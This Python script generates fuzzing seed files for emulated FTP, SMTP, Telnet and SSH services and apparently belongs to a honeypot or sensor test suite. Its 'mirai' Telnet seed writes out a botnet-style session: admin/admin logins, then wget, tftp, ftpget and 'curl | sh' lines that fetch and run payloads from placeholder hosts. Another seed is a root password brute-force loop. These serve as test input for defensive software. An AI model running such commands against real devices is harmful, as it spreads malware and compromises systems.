#!/usr/bin/python3
# Regenerate the seeds of fuzz_svc_ftp, fuzz_svc_smtp, fuzz_svc_telnet and
# fuzz_svc_ssh (formats in tests/fuzz/fuzz_svc.h and fuzz_svc_ftp.c): the
# first byte is the cut, the rest the client's stream.
import os
import struct

here = os.path.dirname(os.path.abspath(__file__))


def put(svc, name, cut, data):
    d = os.path.join(here, svc)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(bytes([cut]) + data)


# ftp: the cut is the line length (most lines fit in 23 * 4 + 1 bytes);
# '#' segments go over the data connection once PASV/EPSV named it.
put("svc_ftp", "login_list", 1, b"USER anonymous\r\nPASS a@b\r\nSYST\r\nPWD\r\n"
    b"CWD /pub/../x\r\nTYPE A\r\nFEAT\r\nPASV\r\nLIST\r\nQUIT\r\n")
put("svc_ftp", "stor", 0, b"USER u\r\nPASS p\r\nTYPE I\r\nEPSV\r\nSTOR a.exe\r\n"
    b"#MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"#" * 40 + b"\r\nNOOP\r\n")
put("svc_ftp", "stor_first", 0x80, b"USER anonymous\r\nPASS x\r\nPASV\r\n"
    b"#early bytes\r\nSTOR up.bin\r\n#data\r\nQUIT\r\n")
put("svc_ftp", "port", 1, b"USER ftp\r\nPASS x\r\nPORT 192,0,2,1,0,80\r\n"
    b"LIST\r\nEPRT |2|2001:db8::1|21|\r\nEPRT |1|bad\r\nRETR x\r\n"
    b"STOU\r\nAPPE y\r\nNLST\r\nABOR\r\n")
put("svc_ftp", "stor_binary_name", 0, b"USER a\r\nPASS b\r\nPASV\r\n"
    b"STOR \xff\xfe\x01.exe\r\n#x")
put("svc_ftp", "long", 0x3f, b"USER " + b"A" * 3000 + b"\r\nPASS x\r\n")
put("svc_ftp", "brute", 0x10, b"".join(b"USER root\r\nPASS %d\r\n" % i
    for i in range(12)))

# smtp
put("svc_smtp", "mail", 3, b"EHLO spam.example\r\nMAIL FROM:<a@example.org>\r\n"
    b"RCPT TO:<b@example.com>\r\nRCPT TO: c@example.net\r\nDATA\r\n"
    b"Subject: hi\r\nFrom: a\r\n\r\n..dot\r\nbody\r\n.\r\nRSET\r\nQUIT\r\n")
put("svc_smtp", "auth", 1, b"EHLO x\r\nAUTH PLAIN AGFkbWluAHNlY3JldA==\r\n"
    b"AUTH LOGIN\r\ndXNlcg==\r\ncGFzcw==\r\nAUTH LOGIN dXNlcg==\r\n*\r\n"
    b"AUTH PLAIN\r\n!!!\r\nAUTH CRAM-MD5\r\nSTARTTLS\r\nVRFY root\r\n")
put("svc_smtp", "unterminated", 0x3f, b"HELO x\r\nMAIL FROM:<>\r\n"
    b"RCPT TO:<x@y>\r\nDATA\r\n" + b"z" * 1500 + b"\r\nmore")
put("svc_smtp", "many_rcpt", 5, b"HELO x\r\nMAIL FROM:<s@x>\r\n" +
    b"".join(b"RCPT TO:<u%d@example.com>\r\n" % i for i in range(105)) +
    b"DATA\r\n.\r\n")

# telnet: IAC sequences, subnegotiation, login, shell
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
neg = bytes([IAC, DO, 1, IAC, DO, 3, IAC, WILL, 24, IAC, WILL, 31,
             IAC, DO, 5, IAC, WILL, 39, IAC, SB, 24, 0]) + b"xterm" + \
    bytes([IAC, SE, IAC, SB, 31, 0, 80, 0, 24, IAC, SE])
put("svc_telnet", "negotiate", 1, neg + b"root\r\nroot\r\nuname -a\r\nid\r\n"
    b"exit\r\n")
put("svc_telnet", "mirai", 2, b"admin\r\nadmin\r\nenable\r\nsystem\r\nshell\r\n"
    b"sh\r\n/bin/busybox ECCHI\r\ncd /tmp; wget http://198.51.100.7/x.sh -O "
    b"x; tftp -g -r m.mips 198.51.100.8 && ftpget -u a -p b 198.51.100.9 l r"
    b"\r\ncurl -o o example.org/z | sh\r\n")
put("svc_telnet", "edits", 0x81, b"ro\x08\x7fot\r\x00pw\xff\xff\r\n\x03"
    b"ls\x04\r\ncat /proc/cpuinfo\r\n" + bytes([IAC, 246, IAC, 247, IAC, 248])
    + b"\x04")
put("svc_telnet", "sb_runaway", 0x3f, bytes([IAC, SB, 24]) + b"x" * 200 +
    bytes([IAC, IAC, IAC, 1, IAC, SE]) + b"u\r\np\r\n")

# ssh: identification, then a KEXINIT and the next packet
def packet(payload):
    pad = 8 - (5 + len(payload)) % 8
    if pad < 4:
        pad += 8
    return struct.pack(">IB", 1 + len(payload) + pad, pad) + payload + \
        b"\0" * pad


def kexinit(lists):
    p = bytes([20]) + bytes(range(16))
    for l in lists:
        p += struct.pack(">I", len(l)) + l
    return p + b"\0" + b"\0\0\0\0"


lists = [b"curve25519-sha256,ext-info-c", b"ssh-ed25519",
         b"aes128-ctr", b"aes128-ctr", b"hmac-sha2-256", b"hmac-sha2-256",
         b"none", b"none", b"", b""]
put("svc_ssh", "openssh", 0x3f, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n" +
    packet(kexinit(lists)) + packet(b"\x1e" + b"\0" * 36))
put("svc_ssh", "split", 0, b"SSH-2.0-libssh_0.9.6\r\n" +
    packet(kexinit(lists)))
put("svc_ssh", "badlist", 0x3f, b"SSH-2.0-x\r\n" + packet(bytes([20]) +
    bytes(16) + b"\xff\xff\xff\xff"))
put("svc_ssh", "badlen", 0x3f, b"SSH-2.0-x\n\x00\x01\x00\x00\x04\x14")
put("svc_ssh", "http", 0x3f, b"GET / HTTP/1.0\r\n\r\n")
put("svc_ssh", "v1", 0x3f, b"SSH-1.5-x\r\n")
